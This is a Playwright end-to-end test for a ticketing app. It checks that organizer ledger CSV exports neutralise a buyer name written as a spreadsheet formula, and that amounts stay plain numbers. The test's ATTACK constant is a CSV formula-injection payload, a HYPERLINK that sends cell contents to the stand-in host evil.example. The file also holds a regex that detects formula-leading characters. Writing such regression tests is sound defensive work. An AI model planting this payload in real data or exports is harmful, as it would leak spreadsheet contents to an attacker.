/**
 * The organizer's CSV exports cannot carry formulas (issue 24): a buyer who named themselves as a
 * spreadsheet formula pays for a ticket through the real checkout; the organizer downloads the
 * ledgers from /primeProfilePayments and finds that name written as text (a leading quote), while
 * amounts, the negative platform fee included, stay plain numbers.
 */
import { readFileSync } from 'node:fs';
import type { Page } from '@playwright/test';
import { e2eData, seedEvent } from './events-helpers';
import { expect, pageHydrated, tenantUrl, test } from './fixtures';
import { buyTicket, CARDS, orderStatus, payWithCard } from './payments-helpers';
import { createUser, signInContext } from './session-helpers';
import { testMark } from './marks';

const TENANT = 'aurora';
const ATTACK = '=HYPERLINK("http://evil.example/?x="&A2,"Refund")';

/** The cells of a CSV file (RFC 4180: quoted cells may hold commas, doubled quotes and line breaks). */
function csvRows(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\n') {
      rows.push([...row, cell]);
      row = [];
      cell = '';
    } else cell += c;
  }
  if (cell || row.length) rows.push([...row, cell]);
  return rows;
}

async function downloadLedger(page: Page, kind: string): Promise<string[][]> {
  await page.getByTestId(`ledger-tab-${kind}`).click();
  const download = page.waitForEvent('download');
  await page.getByTestId(`ledger-csv-${kind}`).click();
  return csvRows(readFileSync((await (await download).path())!, 'utf8'));
}

test('a buyer named as a formula is text in the organizer’s ledger CSV; amounts, negative ones too, stay numbers', async ({ page, context, request }) => {
  // A checkout, its payment and two downloads: long on a loaded machine.
  test.slow();
  const organizer = await createUser(TENANT, 'csv-org', 'organizer');
  const event = await seedEvent(TENANT, organizer, { title: `Formula night ${testMark()}`, ticketPrice: 2500, capacity: null });
  const buyer = await createUser(TENANT, 'csv-buyer');
  await e2eData(TENANT).profiles.save(buyer.sub, { displayName: ATTACK });

  await signInContext(context, request, buyer);
  await page.goto(tenantUrl(TENANT, '/'));
  const orderId = await buyTicket(page, event.eventId);
  await payWithCard(page, CARDS.success);
  await expect.poll(() => orderStatus(page, orderId), { timeout: 20_000 }).toBe('captured');
  expect((await e2eData(TENANT).orders.get(orderId))?.buyerName).toBe(ATTACK);

  await signInContext(context, request, organizer);
  await page.goto(tenantUrl(TENANT, '/primeProfilePayments'));
  await pageHydrated(page);

  const tickets = await downloadLedger(page, 'ticket');
  expect(tickets[0]).toEqual(['date', 'order', 'ledger', 'item', 'buyer', 'amount', 'currency']);
  const sale = tickets.find((r) => r[1] === orderId)!;
  expect(sale.slice(1)).toEqual([orderId, 'ticket', event.title, `'${ATTACK}`, '25.00', 'USD']);

  const fees = await downloadLedger(page, 'platform_fee');
  const fee = fees.find((r) => r[1] === orderId)!;
  expect(fee[4]).toBe(`'${ATTACK}`);
  expect(fee[5]).toBe('-1.25');
  // No cell of either file starts a formula; the amounts are plain numbers.
  for (const row of [...tickets.slice(1), ...fees.slice(1)]) {
    row.forEach((cell, column) => {
      if (column === 5) expect(cell).toMatch(/^-?\d+\.\d{2}$/);
      else expect(cell, cell).not.toMatch(/^[=+\-@\t\r\n]/);
    });
  }
});
